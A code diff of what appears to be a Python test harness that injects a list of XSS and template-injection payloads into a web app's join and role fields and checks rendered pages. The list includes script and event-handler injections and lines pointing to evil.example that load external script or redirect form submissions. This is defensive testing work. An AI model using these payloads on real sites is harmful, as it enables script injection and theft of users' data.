@@ -18,7 +18,8 @@ from page import Page, report
 from server import Server
 
 OWN = ["</textarea><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'onload='x",
-       "<img src=x onerror=\"document.title=1\"> </script>\u202e", "javascript:alert(1)", "</title><svg onload=alert(1)>",
+       "<img src=x onerror=\"document.title=1\"> </script>\u202e", "javascript:alert(1)",
+       "</title><svg onload=alert(1)>",
        "{{7*7}}${7*7}<%= 7 %>", "<details open ontoggle=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "</script><script src=//evil.example/x.js></script>", "<base href=//evil.example>",
        "<form action=//evil.example><button>x", "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0>"]
@@ -60,7 +61,7 @@ class Markup:
         self.phone = Page("words-phone", 360, 740, folder, telephone=True)
         self.wall = Page("words-wall", 1600, 900, folder)
         self.plain = Page("words-plain", 360, 740, folder, telephone=True)
-        self.pages, self.lines = [self.lead, self.phone, self.wall, self.plain], []
+        self.pages = [self.lead, self.phone, self.wall, self.plain]
         self.vectors = vectors()
         self.texts = list(parts(self.vectors, 1500))
         self.used = 0
@@ -97,10 +98,9 @@ class Markup:
         for number, each in enumerate(self.vectors):
             if number % 4 == 0 or number < len(OWN):
                 one = each.replace("\n", " ").replace("\r", " ")
-                self.lines.append(self.server.line(
-                    f"/join {self.code} as P{number} of {one[:60]} role {one[:60]}"))
+                self.server.knock(f"/join {self.code} as P{number} of {one[:60]} role {one[:60]}")
                 self.used += 2
-            if len(self.lines) > 100:
+            if len(self.server.kept) > 100:
                 break
         # The page by forms of somebody who leads as well.
         number = re.search(r"member (\d+)", self.plain.text(".who")).group(1)
